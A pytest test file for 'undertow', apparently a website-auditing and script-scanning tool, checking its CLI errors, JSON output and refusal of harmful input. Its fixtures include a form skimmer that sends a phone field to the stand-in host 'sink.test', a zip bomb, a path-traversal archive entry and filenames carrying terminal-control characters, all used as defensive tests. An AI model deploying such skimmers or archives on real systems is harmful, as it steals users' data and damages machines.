"""Wrong use gets a sentence and exit code 2; every command answers with one JSON document."""

from __future__ import annotations

import statistics
import subprocess
import sys
import time
import zipfile
from collections.abc import Callable
from pathlib import Path

import click
import pytest

from conftest import Undertow
from undertow.cli import _COMMANDS
from undertow.cli import undertow as cli


def test_help_answers_at_once() -> None:
    """Goal: 0.3 s. The median of five, with room for a busy machine."""
    spent = []
    for _ in range(5):
        start = time.monotonic()
        subprocess.run([sys.executable, "-m", "undertow", "--help"], check=True, capture_output=True)
        spent.append(time.monotonic() - start)
    assert statistics.median(spent) < 0.6


def commands() -> list[tuple[str, ...]]:
    """Every command, those of groups with their group."""
    group = click.Context(cli)
    found: list[tuple[str, ...]] = []
    for name in _COMMANDS:
        command = cli.get_command(group, name)
        found += [(name, sub) for sub in command.commands] if isinstance(command, click.Group) else [(name,)]
    return found


@pytest.mark.parametrize("command", commands(), ids=" ".join)
def test_every_command_explains_itself(undertow: Undertow, command: tuple[str, ...]) -> None:
    ran = undertow(*command, "--help")
    assert ran.code == 0
    assert "--json" in ran.out


@pytest.mark.parametrize(
    ("arguments", "hint"),
    [
        (["audit"], "URL"),
        (["audit", "not a url"], "write it like https://"),
        (["audit", "ftp://files.test/"], "write it like https://"),
        (["audit", "http://127.0.0.1:1/", "--map", "nonsense"], "--map"),
        (["audit", "http://127.0.0.1:1/", "--vantage", "mars"], "north-america"),
        (["analyze", "missing.wacz"], "missing.wacz"),
        (["scan", "missing.js"], "missing.js"),
        (["demo", "--app", "nobody"], "brightwater"),
        (["dance"], "dance"),
    ],
)
def test_wrong_use_is_answered_with_what_to_write(
    undertow: Undertow, tmp_path: Path, arguments: list[str], hint: str
) -> None:
    ran = undertow(*arguments, cwd=tmp_path)
    assert ran.code == 2
    assert hint in ran.err
    assert not list(tmp_path.iterdir()), "wrong use leaves nothing behind"


def test_a_file_that_is_no_bundle_is_refused(undertow: Undertow, tmp_path: Path) -> None:
    (tmp_path / "x.wacz").write_bytes(b"not a zip")
    for command in ("analyze", "show"):
        assert undertow(command, tmp_path / "x.wacz").code == 2
    assert undertow("verify", tmp_path / "x.wacz").code == 1


def bomb(path: Path) -> None:
    """Ten million zeros in ten kilobytes, under the name of the evidence."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("undertow/evidence.json.gz", bytes(10_000_000))


def escape(path: Path) -> None:
    """A name that leads out of the folder it would be unpacked in."""
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("../escaped.txt", b"out")


@pytest.mark.parametrize("make", [bomb, escape])
def test_a_bundle_built_to_do_harm_is_refused_and_nothing_is_unpacked(
    undertow: Undertow, tmp_path: Path, make: Callable[[Path], None]
) -> None:
    inside = tmp_path / "inside"
    inside.mkdir()
    make(inside / "x.wacz")
    for command in ("analyze", "show"):
        ran = undertow(command, inside / "x.wacz", cwd=inside)
        assert ran.code == 2
        assert ran.err.startswith("undertow: ")
    assert undertow("verify", inside / "x.wacz", cwd=inside).code == 1
    assert [p.name for p in tmp_path.rglob("*")] == ["inside", "x.wacz"]


def test_who_answers_in_the_published_form(undertow: Undertow) -> None:
    answer = undertow("who", "verify.cmpassport.com", "--json").json
    for name in (
        "query",
        "host",
        "domain",
        "organisation",
        "owners",
        "state",
        "operator_country",
        "network",
        "listings",
        "basis",
    ):
        assert name in answer
    assert answer["domain"] == "cmpassport.com"
    assert answer["state"] == "CN"
    for listing in answer["listings"]:
        assert {"list", "entity", "scope", "date", "citation", "verified"} <= listing.keys()


def test_who_says_unknown_where_it_does_not_know(undertow: Undertow) -> None:
    answer = undertow("who", "nobody-knows-this.test", "--json").json
    assert (answer["organisation"], answer["state"], answer["operator_country"]) == (None, None, None)


CODE = """document.querySelector('input[type=tel]').addEventListener('change', (e) =>
  fetch('https://sink.test/p', {method: 'POST', body: e.target.value}))"""


def test_scan_reads_files_folders_and_inline_scripts(undertow: Undertow, tmp_path: Path) -> None:
    (tmp_path / "a.js").write_text(CODE)
    data = "<script type='application/json'>{}</script>"
    (tmp_path / "page.html").write_text(f"<!doctype html><script>{CODE}</script>{data}")
    answer = undertow("scan", tmp_path, "--json").json
    assert [s["name"] for s in answer["scripts"]] == ["a.js", "page.html (inline #1)"]
    for script in answer["scripts"]:
        assert [(f["data"], f["host"]) for f in script["flows"]] == [("phone", "sink.test")]
        assert script["endpoints"][0].keys() >= {"url", "host", "decoded"}


def test_scan_reads_the_scripts_beside_a_page_and_no_file_outside_its_folder(
    undertow: Undertow, tmp_path: Path
) -> None:
    site = tmp_path / "site"
    site.mkdir()
    (tmp_path / "secret.js").write_text(CODE)
    (site / "app.js").write_text(CODE)
    (site / "index.html").write_text("<script src=app.js></script><script src=../secret.js></script>")
    ran = undertow("scan", site / "index.html", "--json")
    assert [s["name"] for s in ran.json["scripts"]] == ["app.js"]
    assert [g["where"] for g in ran.json["gaps"]] == ["../secret.js"]


def test_scan_shows_hostile_names_harmlessly(undertow: Undertow, tmp_path: Path) -> None:
    (tmp_path / "a\x1b[31m\u202e.js").write_text("fetch('https://sink.test/\u202ex')")
    ran = undertow("scan", tmp_path)
    assert ran.code == 0
    assert "\x1b[31m" not in ran.out
    assert "\u202e" not in ran.out
